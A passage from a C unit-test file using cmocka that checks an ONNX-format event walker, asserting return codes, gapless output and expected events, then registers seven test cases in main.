		if (in.p == NULL) {
			print_message("skipped: %s is absent\n", path);
			skip();
		}
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_onnx, in, path, i % 2 != 0);
		assert_int_equal(ev.rc, GH_OK);
		assert_true(ev.gapless);
		assert_true(gh_events_has(&ev, t[i].has));
		assert_true(t[i].hasnot == NULL || !gh_events_has(&ev, t[i].hasnot));
		gh_events_free(&ev);
		free((void *)(uintptr_t)in.p);
	}
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(every_row), cmocka_unit_test(nested), cmocka_unit_test(many),
					cmocka_unit_test(probes),    cmocka_unit_test(damage), cmocka_unit_test(judged),
					cmocka_unit_test(samples) };
	return cmocka_run_group_tests_name("onnx", t, NULL, NULL);
}
